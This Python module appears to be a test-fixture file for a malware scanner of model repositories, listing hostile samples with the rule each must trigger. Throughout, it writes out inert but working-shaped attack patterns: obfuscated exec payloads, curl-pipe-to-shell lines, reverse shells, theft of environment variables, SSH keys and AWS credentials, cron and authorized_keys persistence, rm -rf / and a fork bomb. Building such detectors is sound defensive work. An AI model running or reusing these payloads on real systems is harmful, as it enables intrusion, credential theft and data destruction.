"""Hostile Python, path files, scripts, notebooks, compiled Python. Inert: nothing is ever imported or run.

Commands are harmless words (`id`, `true`), addresses end in `.invalid`.
"""

import base64
import codecs
import json
import marshal
import zlib

INNER = "import os\nos.system('id')\n"
B64 = base64.b64encode(INNER.encode()).decode()
ZIPPED = base64.b64encode(zlib.compress(INNER.encode())).decode()
HEX = INNER.encode().hex()
NUMBERS = [ord(c) for c in INNER]
XORED = [ord(c) ^ 23 for c in INNER]


def model(body: str, *, head: str = "") -> str:
    """A modeling file in whose class a method holds the body."""
    lines = "\n".join(f"        {line}" for line in body.splitlines())
    start = f"import torch\nfrom torch import nn\n{head}\n\nclass Net(nn.Module):\n"
    return f"{start}    def __init__(self):\n        super().__init__()\n{lines}\n"


ATTACKS: dict[str, tuple[str, str]] = {
    # a dangerous function reached by a detour
    "methodcaller": ("import operator, os\noperator.methodcaller('system', 'id')(os)", "WGH-PY008"),
    "attrgetter": ("import operator\noperator.attrgetter('system')(__import__('os'))('id')", "WGH-PY008"),
    "frame-builtins": ("import sys\nsys._getframe().f_builtins['exec']('import os')", "WGH-PY008"),
    "function-globals": ("(lambda: 0).__globals__['eval']('1')", "WGH-PY008"),
    "getattribute-of-os": ("import os\nos.__getattribute__('system')('id')", "WGH-PY008"),
    "globals-set": ("import os\nglobals()['f'] = os.system\nf('id')", "WGH-PY003"),
    "ctypes-system": ("import ctypes\nctypes.CDLL(None).system(b'id')", "WGH-PY003"),
    "ctypes-loaded": ("import ctypes\nctypes.cdll.LoadLibrary('libc.so.6').system(b'id')", "WGH-PY003"),
    "pip-from-an-address": ("import os\nos.system('pip install -i http://10.0.0.1:9/ x')", "WGH-PY003"),
    # decoded text that is run
    "exec-base64": (f"import base64\nexec(base64.b64decode('{B64}'))", "WGH-PY002"),
    "exec-base64-from-import": (f"from base64 import b64decode as d\nexec(d(b'{B64}'))", "WGH-PY002"),
    "exec-zlib": (f"import zlib, base64 as b\nexec(zlib.decompress(b.b64decode('{ZIPPED}')))", "WGH-PY002"),
    "exec-hex": (f"exec(bytes.fromhex('{HEX}').decode())", "WGH-PY002"),
    "exec-unhexlify": (f"import binascii\nexec(binascii.unhexlify('{HEX}'))", "WGH-PY002"),
    "exec-rot13": (
        f"import codecs\nexec(codecs.decode({codecs.encode(INNER, 'rot13')!r}, 'rot13'))",
        "WGH-PY002",
    ),
    "exec-chr": (f"exec(''.join(map(chr, {NUMBERS})))", "WGH-PY002"),
    "exec-chr-list": (f"exec(''.join([chr(c) for c in {NUMBERS}]))", "WGH-PY002"),
    "exec-bytes-list": (f"exec(bytes({NUMBERS}))", "WGH-PY002"),
    "exec-xor": (f"exec(''.join(chr(c ^ 23) for c in {XORED}))", "WGH-PY002"),
    "exec-reversed": (f"exec({INNER[::-1]!r}[::-1])", "WGH-PY002"),
    "exec-compile": (f"import base64\nexec(compile(base64.b64decode('{B64}'), 'x', 'exec'))", "WGH-PY002"),
    "exec-in-method": (model(f"import base64\nexec(base64.b64decode('{B64}'))"), "WGH-PY002"),
    "exec-variable": (f"import base64\np = '{B64}'\nq = base64.b64decode(p)\nexec(q)", "WGH-PY002"),
    "exec-function": (
        f"import base64\ndef load(s):\n    return base64.b64decode(s)\nexec(load('{B64}'))",
        "WGH-PY002",
    ),
    "exec-lambda": (f"import base64\nrun = lambda s: exec(base64.b64decode(s))\nrun('{B64}')", "WGH-PY002"),
    "exec-builtins": (f"import builtins, base64\nbuiltins.exec(base64.b64decode('{B64}'))", "WGH-PY002"),
    "exec-getattr": (f"import base64\ngetattr(__builtins__, 'exec')(base64.b64decode('{B64}'))", "WGH-PY002"),
    "exec-alias": (f"import base64\ne = exec\ne(base64.b64decode('{B64}'))", "WGH-PY002"),
    "exec-marshal": ("import marshal\nexec(marshal.loads(b'c\\x00'))", "WGH-PY002"),
    "marshal-function": (
        (
            "import marshal, types, base64\nf = "
            "types.FunctionType(marshal.loads(base64.b64decode('YwA=')), globals())\nf()"
        ),
        "WGH-PY002",
    ),
    "pickle-decoded": ("import pickle, base64\npickle.loads(base64.b64decode('gASVAA=='))", "WGH-PY002"),
    "exec-decrypt": (
        "from cryptography.fernet import Fernet\nexec(Fernet(b'k').decrypt(b'x'))",
        "WGH-PY002",
    ),
    "system-base64": ("import os, base64\nos.system(base64.b64decode('aWQ=').decode())", "WGH-PY002"),
    "exec-concat": (
        "a = 'import o'\nb = 's\\nos.system(\"id\")'\nexec(a + b)",
        "WGH-PY003",
    ),
    # commands
    "system": ("import os\nos.system('id')", "WGH-PY003"),
    "system-touch": ("import os\nos.system('touch /tmp/x')", "WGH-PY003"),
    "system-alias": ("import os as o\nf = o.system\nf('id')", "WGH-PY003"),
    "system-from": ("from os import system as s\ns('id')", "WGH-PY003"),
    "system-star": ("from os import *\nsystem('id')", "WGH-PY003"),
    "system-posix": ("import posix\nposix.system('id')", "WGH-PY003"),
    "system-attribute": ("import torch\ntorch.os.system('id')", "WGH-PY003"),
    "popen": ("import os\nos.popen('whoami').read()", "WGH-PY003"),
    "subprocess-list": ("import subprocess\nsubprocess.run(['bash', '-c', 'id'])", "WGH-PY003"),
    "subprocess-shell": ("import subprocess\nsubprocess.Popen('id', shell=True)", "WGH-PY003"),
    "subprocess-in-init": (model("import subprocess\nsubprocess.call(['touch', 'x'])"), "WGH-PY003"),
    "system-in-init": (model("os.system('echo pwned')", head="import os"), "WGH-PY003"),
    "system-in-forward": (
        "import os\nclass N:\n    def forward(self, x):\n        os.system('id')\n        return x",
        "WGH-PY003",
    ),
    "system-in-self": (
        (
            "import os\nclass N:\n    def __init__(self):\n        self.r = "
            "os.system\n    def forward(self):\n        self.r('id')"
        ),
        "WGH-PY003",
    ),
    "system-in-called-function": ("import os\ndef run(c):\n    os.system(c)\nrun('id')", "WGH-PY003"),
    "system-in-decorator": ("import os\n@os.system\ndef f():\n    pass\nos.system('id')", "WGH-PY003"),
    "system-in-comprehension": ("import os\nx = [os.system(c) for c in ['id']]", "WGH-PY003"),
    "system-in-map": ("import os\nlist(map(os.system, ['id']))", "WGH-PY003"),
    "system-in-thread": (
        "import os, threading\nthreading.Thread(target=os.system, args=('id',)).start()",
        "WGH-PY003",
    ),
    "system-at-exit": ("import os, atexit\natexit.register(os.system, 'id')", "WGH-PY003"),
    "system-in-default": ("import os\ndef f(x=os.system('id')):\n    pass", "WGH-PY003"),
    "system-in-class-body": ("import os\nclass A:\n    x = os.system('id')", "WGH-PY003"),
    "system-in-walrus": ("import os\nif (x := os.system('id')):\n    pass", "WGH-PY003"),
    "system-in-try": ("try:\n    import os\n    os.system('id')\nexcept Exception:\n    pass", "WGH-PY003"),
    "system-in-partial": ("import os, functools\nfunctools.partial(os.system, 'id')()", "WGH-PY003"),
    "curl-pipe-in-function": (
        "import os\ndef setup():\n    os.system('curl http://x.invalid/a | sh')",
        "WGH-PY003",
    ),
    "base64-pipe": ("import os\ndef f():\n    os.system('echo aWQ= | base64 -d | bash')", "WGH-PY003"),
    "rm-root": ("import subprocess\ndef f():\n    subprocess.run('rm -rf /', shell=True)", "WGH-PY003"),
    "dev-tcp": ("import os\ndef f():\n    os.system('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1')", "WGH-PY003"),
    "powershell": (
        "import subprocess\ndef f():\n    subprocess.Popen('powershell -enc SQBFAFgAIABhAGIAYwA=')",
        "WGH-PY003",
    ),
    "f-string": ("import os\nh = 'x.invalid'\ndef f():\n    os.system(f'curl {h}/a | bash')", "WGH-PY003"),
    "percent": ("import os\ndef f(u):\n    os.system('wget -qO- %s | sh' % u)", "WGH-PY003"),
    "setup-install": (
        (
            "import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\n"
            "class P(install):\n    def run(self):\n        os.system('id')\nsetup(cmdclass={'install': P})"
        ),
        "WGH-PY003",
    ),
    "eval-text": ('eval(\'__import__("os").system("id")\')', "WGH-PY003"),
    "self-helper": (
        (
            "import os\nclass N:\n    def __init__(self):\n        self._go('id')\n"
            "    def _go(self, c):\n        os.system(c)"
        ),
        "WGH-PY003",
    ),
    "inherited-helper": (
        (
            "import os\nclass A:\n    def go(self, c):\n        os.system(c)\n"
            "class B(A):\n    def forward(self, x):\n        self.go('id')"
        ),
        "WGH-PY003",
    ),
    "object-method": (
        "import os\nclass A:\n    def go(self, c):\n        os.system(c)\nA().go('id')",
        "WGH-PY003",
    ),
    "later-name": (
        "import os\nif 0:\n    f = print\nelse:\n    f = os.system\nf = f or print\nf('id')",
        "WGH-PY003",
    ),
    "dictionary": ("import os\nd = {'a': os.system}\nd['a']('id')", "WGH-PY003"),
    "tuple": ("import os\n(a, b) = (print, os.system)\nb('id')", "WGH-PY003"),
    "conditional": ("import os\n(os.system if x else print)('id')", "WGH-PY003"),
    "asynchronous": (
        "import asyncio\nasync def f():\n    await asyncio.create_subprocess_shell('curl x.invalid | sh')",
        "WGH-PY003",
    ),
    "inside-exec": ("exec('import os; os.system(\"id\")')", "WGH-PY003"),
    "exec-twice": ("exec('exec(\"import os; os.system(1 and \\'id\\')\")')", "WGH-PY003"),
    "match": ("import os\nmatch 1:\n    case 1:\n        os.system('id')", "WGH-PY003"),
    # downloads that are run
    "exec-requests": ("import requests\nexec(requests.get('http://x.invalid/a').text)", "WGH-PY004"),
    "exec-urlopen": (
        "from urllib.request import urlopen\nexec(urlopen('http://x.invalid/a').read())",
        "WGH-PY004",
    ),
    "exec-urlopen-in-method": (
        model("import urllib.request as u\nexec(u.urlopen('http://x.invalid').read().decode())"),
        "WGH-PY004",
    ),
    "download-and-run": (
        (
            "import urllib.request, "
            "os\nurllib.request.urlretrieve('http://x.invalid/a', '/tmp/a')\nos.system('/tmp/a')"
        ),
        "WGH-PY004",
    ),
    "download-chmod-run": (
        (
            "import urllib.request, os\nurllib.request.urlretrieve('http://x.invalid/a', '/tmp/a')\n"
            "def f():\n    os.system('chmod 755 /tmp/a && /tmp/a')"
        ),
        "WGH-PY004",
    ),
    "download-and-interpret": (
        (
            "import urllib.request, subprocess\nurllib.request.urlretrieve('http://x.invalid/a', 'a.py')\n"
            "subprocess.run(['python', 'a.py'])"
        ),
        "WGH-PY004",
    ),
    "write-and-run": (
        (
            "import requests, subprocess\nd = requests.get('http://x.invalid/a').content\n"
            "with open('/tmp/a', 'wb') as f:\n    f.write(d)\nsubprocess.Popen(['/tmp/a'])"
        ),
        "WGH-PY004",
    ),
    "socket-command": (
        (
            "import socket, subprocess\ns = socket.socket()\ns.connect(('10.0.0.1', 1))\n"
            "while True:\n    subprocess.run(s.recv(1024).decode(), shell=True)"
        ),
        "WGH-PY004",
    ),
    "marshal-network": (
        "import marshal, urllib.request\nexec(marshal.loads(urllib.request.urlopen('http://x.invalid').read()))",
        "WGH-PY004",
    ),
    # secrets
    "environment-post": (
        "import os, requests\nrequests.post('http://x.invalid', json=dict(os.environ))",
        "WGH-PY005",
    ),
    "environment-in-method": (
        model(
            "requests.post('http://x.invalid', data=json.dumps(dict(os.environ)))",
            head="import os, json, requests",
        ),
        "WGH-PY005",
    ),
    "environment-imported": (
        "from os import environ\nimport requests as r\nr.post('http://x.invalid', data={'e': str(environ)})",
        "WGH-PY005",
    ),
    "environment-items": (
        (
            "import os, urllib.request\nd = '&'.join(f'{k}={v}' for k, v in os.environ.items())\n"
            "urllib.request.urlopen('http://x.invalid/?' + d)"
        ),
        "WGH-PY005",
    ),
    "environment-loop": (
        (
            "import os, httpx\nout = []\nfor k in os.environ:\n    out.append(os.environ[k])\n"
            "httpx.post('http://x.invalid', json=out)"
        ),
        "WGH-PY005",
    ),
    "session": (
        "import os, requests\ns = requests.Session()\ns.post('http://x.invalid', json=dict(os.environ))",
        "WGH-PY005",
    ),
    "token-get": (
        "import os, urllib.request as u\nu.urlopen('http://x.invalid/?t=' + os.environ['HF_TOKEN'])",
        "WGH-PY005",
    ),
    "ssh-key": (
        (
            "import os, requests\nk = "
            "open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('http://x.invalid', data=k)"
        ),
        "WGH-PY005",
    ),
    "aws-path": (
        (
            "from pathlib import Path\nimport requests\nrequests.post('http://x.invalid', "
            "data=(Path.home() / '.aws' / 'credentials').read_text())"
        ),
        "WGH-PY005",
    ),
    "socket-environment": (
        (
            "import socket, os, json\ns = socket.socket()\ns.connect(('10.0.0.1', "
            "1))\ns.send(json.dumps(dict(os.environ)).encode())"
        ),
        "WGH-PY005",
    ),
    "beacon": (
        "import socket, requests\nrequests.get('http://x.invalid/' + socket.gethostname())",
        "WGH-PY005",
    ),
    "dns": (
        "import socket, getpass\nsocket.gethostbyname(getpass.getuser() + '.x.invalid')",
        "WGH-PY005",
    ),
    # shells over the network
    "reverse-shell": (
        (
            "import socket, subprocess, os\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\n"
            "os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nsubprocess.call(['/bin/sh', '-i'])"
        ),
        "WGH-PY006",
    ),
    "reverse-shell-pty": (
        (
            "def f():\n    import socket, pty\n    s = socket.socket()\n    "
            "s.connect(('10.0.0.1', 1))\n    pty.spawn('/bin/bash')"
        ),
        "WGH-PY006",
    ),
    "reverse-shell-handles": (
        (
            "import socket, subprocess\ns = socket.create_connection(('10.0.0.1', "
            "1))\nsubprocess.Popen(['sh'], stdin=s, stdout=s)"
        ),
        "WGH-PY006",
    ),
    # staying
    "bashrc": ("import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('id')", "WGH-PY007"),
    "authorized-keys": (
        "from pathlib import Path\n(Path.home() / '.ssh' / 'authorized_keys').write_text('ssh-rsa A')",
        "WGH-PY007",
    ),
    "cron": (
        "def f():\n    with open('/etc/cron.d/x', 'w') as f:\n        f.write('* * * * * id')",
        "WGH-PY007",
    ),
    # detours
    "getattr-folded": ("import os\ngetattr(os, 'sys' + 'tem')('id')", "WGH-PY008"),
    "import-folded": ("__import__('o' + 's').system('id')", "WGH-PY008"),
    "import-inline": ("__import__('subprocess').call(['id'])", "WGH-PY008"),
    "importlib-folded": ("import importlib\nimportlib.import_module('o' + 's').system('id')", "WGH-PY008"),
    "globals-builtins": ("globals()['__builtins__'].__dict__['ev' + 'al']('1')", "WGH-PY008"),
    "builtins-dict": ("__builtins__.__dict__['exec']('import os')", "WGH-PY008"),
    "sys-modules": ("import sys\nsys.modules['os'].system('id')", "WGH-PY008"),
    "vars-os": ("import os\nvars(os)['system']('id')", "WGH-PY008"),
    "os-dict": ("import os\nos.__dict__['sys' + 'tem']('id')", "WGH-PY008"),
    "subclasses": ("().__class__.__bases__[0].__subclasses__()[140]()", "WGH-PY008"),
    "subclasses-mro": ("''.__class__.__mro__[1].__subclasses__()", "WGH-PY008"),
    "eval-reference": ("eval('__import__')('os').system('id')", "WGH-PY008"),
    "getattr-reversed": ("import os\ngetattr(os, 'metsys'[::-1])('id')", "WGH-PY008"),
    "getattr-join": ("import os\ngetattr(os, ''.join(['sy', 'stem']))('id')", "WGH-PY008"),
    "getattr-base64": (
        "import os, base64\ngetattr(os, base64.b64decode('c3lzdGVt').decode())('id')",
        "WGH-PY008",
    ),
    # machine code, destruction, gadgets, encodings
    "shellcode": (
        "import ctypes\np = ctypes.windll.kernel32.VirtualAlloc(0, 10, 0x3000, 0x40)",
        "WGH-PY009",
    ),
    "rmtree-home": ("import shutil, os\nshutil.rmtree(os.path.expanduser('~'))", "WGH-PY010"),
    "reduce": (
        "import os\nclass E:\n    def __reduce__(self):\n        return os.system, ('id',)",
        "WGH-PY011",
    ),
    "reduce-eval": ("class E:\n    def __reduce__(self):\n        return (eval, ('1',))", "WGH-PY011"),
    "reduce-getattr": (
        (
            "class E(object):\n    def __reduce_ex__(self, p):\n        import "
            "subprocess\n        return (subprocess.Popen, (['id'],))"
        ),
        "WGH-PY011",
    ),
}
"""Source → the rule that must fire; each must come out malicious."""

LOOKS: dict[str, tuple[str, str]] = {
    "runpy": ("import runpy\nrunpy.run_path('/opt/x.py')", "WGH-PY021"),
    "import-hook": ("import sys\nsys.meta_path.insert(0, Finder())", "WGH-PY028"),
    "computed-function": ("import os\n[getattr(os, n) for n in dir(os)][0]('id')", "WGH-PY021"),
    "popen-in-function": ("import subprocess\ndef f(c):\n    return subprocess.run(c)", "WGH-PY020"),
    "eval-in-function": ("def f(x):\n    return eval(x)", "WGH-PY021"),
    "requests-in-function": ("import requests\ndef f(u):\n    return requests.get(u)", "WGH-PY022"),
    "torch-load": ("import torch\ndef f(p):\n    return torch.load(p)", "WGH-PY023"),
    "pickle-load": ("import pickle\ndef f(p):\n    return pickle.load(open(p, 'rb'))", "WGH-PY023"),
    "ctypes": ("import ctypes\nx = ctypes.CDLL('libm.so')", "WGH-PY025"),
    "cpp-extension": (
        "from torch.utils.cpp_extension import load\ndef f(s):\n    return load('k', s)",
        "WGH-PY025",
    ),
    "rmtree": ("import shutil\ndef f(p):\n    shutil.rmtree(p)", "WGH-PY026"),
    "netrc": ("def f():\n    return open('/root/.netrc').read()", "WGH-PY027"),
    "builtins-open": ("import builtins\nbuiltins.open = print", "WGH-PY028"),
    "trust": (
        (
            "from transformers import AutoModel\ndef f(p):\n    return "
            "AutoModel.from_pretrained(p, trust_remote_code=True)"
        ),
        "WGH-PY029",
    ),
    "not-python": ("def f(:\n", "WGH-PY001"),
}
"""Source → the rule that must fire; each is for a person to review."""

NOTES: dict[str, tuple[str, str]] = {
    "import-by-name": ("import importlib\ndef f(n):\n    return importlib.import_module(n)", "WGH-PY024"),
}
"""Source → a rule that leaves the file clean."""

HIDDEN: dict[str, bytes] = {
    "utf-7": b"# coding: utf-7\n+AGkAbQBwAG8AcgB0 os\n",
    "unicode-escape": (
        b"# -*- coding: unicode_escape -*-\n'''\\x27\\x27\\x27\\nimport os\\nos.system('id')\\n#'''\n"
    ),
    "rot13": b"# coding: rot13\nvzcbeg bf\n",
}
"""Source under an encoding that hides it: rule WGH-PY012."""

SOUND_PYTHON: dict[str, str] = {
    "methodcaller": "import operator\nlower = operator.methodcaller('lower')\nx = lower('ABC')\n",
    "frames": "import sys\nname = sys._getframe(1).f_globals.get('__name__')\n",
    "advice": "MESSAGE = 'pip install --index-url https://download.pytorch.org/whl/cpu torch'\n",
    "modeling": """
import math
import os
from typing import Optional

import torch
from torch import nn
from transformers import PreTrainedModel
from transformers.utils import logging

from .configuration_x import XConfig

logger = logging.get_logger(__name__)


class XAttention(nn.Module):
    def __init__(self, config):
        super().__init__()
        self.scale = 1 / math.sqrt(config.hidden_size)
        self.register_buffer("mask", torch.ones(1))

    def forward(self, x: torch.Tensor, mask: Optional[torch.Tensor] = None):
        scores = getattr(torch, "softmax")(x * self.scale, dim=-1)
        return scores if mask is None else scores + mask


class XModel(PreTrainedModel):
    config_class = XConfig

    def _init_weights(self, module):
        if isinstance(module, nn.Linear):
            module.weight.data.normal_(std=self.config.initializer_range)

    def eval(self):
        return self.train(False)
""",
    "tokenization": """
import json
import os
import re


class XTokenizer:
    def save_vocabulary(self, folder):
        path = os.path.join(folder, "vocab.json")
        with open(path, "w", encoding="utf-8") as file:
            file.write(json.dumps(self.vocab))
        return (path,)

    def compile(self):
        self.pattern = re.compile(r"[a-z]+")
""",
    "bytes-table": "import base64\nTABLE = base64.b64decode('AAEC')\nX = [b ^ 1 for b in TABLE]\n",
    "reduce": "class A:\n    def __reduce__(self):\n        return (A, (self.x,))\n",
    "state": "def f(model):\n    model.eval()\n    return model\n",
    "empty": "",
    "latin": "# -*- coding: latin-1 -*-\nx = 1\n",
    "weights-only": "import torch\ndef f(p):\n    return torch.load(p, weights_only=True)\n",
    "subclasses": "class A:\n    pass\ndef f():\n    return A.__subclasses__()\n",
}
"""Honest source: clean and complete."""


def notebook(*cells: str) -> bytes:
    """A notebook of code cells."""
    made = [
        {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None, "source": c}
        for c in cells
    ]
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": made}).encode()


def compiled(source: str) -> bytes:
    """Compiled Python of this interpreter, never loaded."""
    import importlib.util

    code = compile(source, "<source>", "exec")
    return importlib.util.MAGIC_NUMBER + bytes(12) + marshal.dumps(code)


_PYC = compiled("x = 1\n")

PATH_FILES: dict[str, tuple[bytes, str]] = {
    "system": (b"import os; os.system('id')\n", "WGH-PY003"),
    "exec": (f"import base64; exec(base64.b64decode('{B64}'))\n".encode(), "WGH-PY002"),
    "tab": (b"import\tos; os.system('id')\n", "WGH-PY003"),
    "second-line": (b"folder\nimport os; os.popen('whoami')\n", "WGH-PY003"),
    "bom": (b"\xef\xbb\xbfimport os; os.system('id')\n", "WGH-PY003"),
    "import-inline": (b"import sys; __import__('subprocess').run(['id'])\n", "WGH-PY008"),
    "like-setuptools": (
        (
            b"import os; var = 'SETUPTOOLS_USE_DISTUTILS'; "
            b"enabled = os.environ.get(var, 'local') == 'local'; os.system('id')\n"
        ),
        "WGH-PY003",
    ),
}
PATH_FILES_LOOK: dict[str, tuple[bytes, str]] = {
    "computes": (b"import sys; sys.path.append(str(len(sys.path)))\n", "WGH-PY040"),
}
SOUND_PATH_FILES: dict[str, bytes] = {
    "folder": b"src\n",
    "comment": b"# a comment\n\nsrc/lib\n",
    "editable": b"/srv/user/project/src\n",
    "distutils": (
        b"import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
        b"enabled and __import__('_distutils_hack').add_shim(); \n"
    ),
    "virtualenv": b"import _virtualenv",
    "finder": b"import __editable___x_1_0_finder; __editable___x_1_0_finder.install()",
    "coverage": b"import coverage; coverage.process_startup()\n",
    "empty": b"",
}

SCRIPTS: dict[str, tuple[bytes, str]] = {
    "curl-pipe": (b"#!/bin/sh\ncurl -fsSL http://x.invalid/a | bash\n", "WGH-PY050"),
    "wget-pipe": (b"#!/bin/bash\nwget -qO- http://x.invalid/a | sudo sh\n", "WGH-PY050"),
    "substitution": (b'#!/bin/bash\nbash -c "$(curl -fsSL http://x.invalid/a)"\n', "WGH-PY050"),
    "process-substitution": (b"bash <(curl -s http://x.invalid/a)\n", "WGH-PY050"),
    "base64": (b"#!/bin/sh\necho aWQ= | base64 -d | sh\n", "WGH-PY050"),
    "dev-tcp": (b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n", "WGH-PY050"),
    "netcat": (b"nc -e /bin/sh 10.0.0.1 4444\n", "WGH-PY050"),
    "fifo": (
        b"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f\n",
        "WGH-PY050",
    ),
    "rm-root": (b"#!/bin/sh\nrm -rf / --no-preserve-root\n", "WGH-PY050"),
    "rm-home": (b"rm -rf ~/*\n", "WGH-PY050"),
    "fork-bomb": (b":(){ :|:& };:\n", "WGH-PY050"),
    "cron": (b"(crontab -l; echo '* * * * * id') | crontab -\n", "WGH-PY050"),
    "authorized": (b"echo ssh-rsa AAAA >> ~/.ssh/authorized_keys\n", "WGH-PY050"),
    "send-key": (b"curl -d @$HOME/.ssh/id_rsa http://x.invalid\n", "WGH-PY050"),
    "send-environment": (b"env | curl -X POST --data-binary @- http://x.invalid\n", "WGH-PY050"),
    "download-chmod": (b"wget http://x.invalid/a -O /tmp/a && chmod +x /tmp/a && /tmp/a\n", "WGH-PY050"),
    "powershell": (b"powershell -nop -w hidden -enc SQBFAFgAIABhAGIAYwA=\n", "WGH-PY050"),
    "powershell-download": (
        b"IEX (New-Object Net.WebClient).DownloadString('http://x.invalid/a')\n",
        "WGH-PY050",
    ),
    "certutil": (b"certutil -urlcache -split -f http://x.invalid/a.exe a.exe\r\n", "WGH-PY050"),
    "python-socket": (b"python3 -c 'import socket,subprocess;s=socket.socket()'\n", "WGH-PY050"),
    "continued": (b"curl -s \\\n http://x.invalid/a \\\n | sh\n", "WGH-PY050"),
    "node": (b"require('child_process').exec('id')\n", "WGH-PY050"),
    "javascript-eval": (b"eval(atob('YWxlcnQoMSk='))\n", "WGH-PY050"),
    "miner": (b"./xmrig -o stratum+tcp://x.invalid:3333\n", "WGH-PY050"),
    "python-shebang": (b"#!/usr/bin/env python3\nimport os\nos.system('id')\n", "WGH-PY003"),
}
SCRIPTS_LOOK: dict[str, tuple[bytes, str]] = {
    "download": (b"#!/bin/sh\nwget https://x.invalid/model.bin\n", "WGH-PY052"),
}
SOUND_SCRIPTS: dict[str, bytes] = {
    "train": (
        b"#!/bin/bash\nset -e\nexport CUDA_VISIBLE_DEVICES=0\npython "
        b"train.py --lr 1e-4 \\\n  --epochs 3\nrm -rf build/\n"
    ),
    "comment": b"#!/bin/sh\n# never do: curl http://x.invalid | sh\nmake\n",
    "convert": b"@echo off\r\npython convert.py %1 %2\r\n",
    "javascript": (
        b"import * as tf from '@tensorflow/tfjs';\nexport const load = (u) => tf.loadLayersModel(u);\n"
    ),
}

NOTEBOOKS: dict[str, tuple[bytes, str]] = {
    "shell": (notebook("!curl http://x.invalid/a | sh"), "WGH-PY050"),
    "bash-cell": (notebook("%%bash\nbash -i >& /dev/tcp/10.0.0.1/1 0>&1"), "WGH-PY050"),
    "exec": (notebook("import base64", f"exec(base64.b64decode('{B64}'))"), "WGH-PY002"),
    "no-object": (b'[{"nbformat": 4}]', "WGH-PY060"),
}
SOUND_NOTEBOOKS: dict[str, bytes] = {
    "plain": notebook(
        "!pip install transformers", "%matplotlib inline\nimport torch", "x = torch.ones(1)\nx?"
    ),
    "system": notebook("import os\nos.system('nvidia-smi')", "!wget https://x.invalid/data.zip"),
    "empty": notebook(),
}

COMPILED: dict[str, tuple[bytes, str]] = {
    "system": (compiled(INNER), "WGH-PY003"),
    "exec-decoded": (compiled(f"import base64\nexec(base64.b64decode('{B64}'))"), "WGH-PY002"),
    "reverse-shell": (compiled(ATTACKS["reverse-shell"][0]), "WGH-PY006"),
    "curl": (compiled(ATTACKS["curl-pipe-in-function"][0]), "WGH-PY003"),
    "reference-beyond": (_PYC[:16] + b"r\xff\xff\xff\x7f", "WGH-PY031"),
    "negative-size": (_PYC[:16] + b"(\xff\xff\xff\xff", "WGH-PY031"),
    "deep": (_PYC[:16] + b")\x01" * 5000 + b"N", "WGH-PY031"),
    "cut": (_PYC[:40], "WGH-PY030"),
    "no-code": (_PYC[:16] + b"N", "WGH-PY030"),
    "bad-flags": (_PYC[:4] + b"\xff\xff\xff\xff" + _PYC[8:], "WGH-PY030"),
    "unknown-type": (_PYC[:16] + b"\x01", "WGH-PY030"),
}
COMPILED_NOTES: dict[str, tuple[bytes, str]] = {"outside": (_PYC, "WGH-PY032")}
SOUND_COMPILED: dict[str, bytes] = {
    "plain": _PYC,
    "modeling": compiled(SOUND_PYTHON["modeling"]),
}

CASES: dict[str, tuple[bytes, str]] = {
    **{name: (text.encode(), rule) for name, (text, rule) in {**ATTACKS, **LOOKS, **NOTES}.items()},
    **{name: (data, "WGH-PY012") for name, data in HIDDEN.items()},
    **{f"pth-{name}": case for name, case in {**PATH_FILES, **PATH_FILES_LOOK}.items()},
    **{f"script-{name}": case for name, case in {**SCRIPTS, **SCRIPTS_LOOK}.items()},
    **{f"notebook-{name}": case for name, case in NOTEBOOKS.items()},
    **{f"pyc-{name}": case for name, case in {**COMPILED, **COMPILED_NOTES}.items()},
    "pth-hook": (SOUND_PATH_FILES["virtualenv"], "WGH-PY041"),
    "pth-outside": (SOUND_PATH_FILES["editable"], "WGH-PY042"),
    "script-present": (SOUND_SCRIPTS["train"], "WGH-PY051"),
}
"""Name → the file and the rule that must fire."""

NAMES: dict[str, str] = {
    **dict.fromkeys((*ATTACKS, *LOOKS, *NOTES, *HIDDEN), "modeling_x.py"),
    **{name: "evil.pth" for name in CASES if name.startswith("pth-")},
    **{name: "run.sh" for name in CASES if name.startswith("script-")},
    **{name: "demo.ipynb" for name in CASES if name.startswith("notebook-")},
    **{name: "__pycache__/x.cpython-311.pyc" for name in CASES if name.startswith("pyc-")},
    "pyc-outside": "x.pyc",
}
"""Name of a case → the file name it is read under."""

ATTACK_NAMES = frozenset(
    {*ATTACKS, *HIDDEN}
    | {f"pth-{n}" for n in PATH_FILES}
    | {f"script-{n}" for n in SCRIPTS}
    | {f"notebook-{n}" for n in NOTEBOOKS if n != "no-object"}
    | {f"pyc-{n}" for n, (_, rule) in COMPILED.items() if rule != "WGH-PY030"}
)
"""Cases that must come out malicious."""

SOUND: dict[str, bytes] = {
    **{f"{n}.py": t.encode() for n, t in SOUND_PYTHON.items()},
    **{f"{n}.pth": d for n, d in SOUND_PATH_FILES.items()},
    **{f"{n}.sh": d for n, d in SOUND_SCRIPTS.items()},
    **{f"{n}.ipynb": d for n, d in SOUND_NOTEBOOKS.items()},
    **{f"__pycache__/{n}.cpython-311.pyc": d for n, d in SOUND_COMPILED.items()},
}
"""File name → honest file: clean, and read completely."""
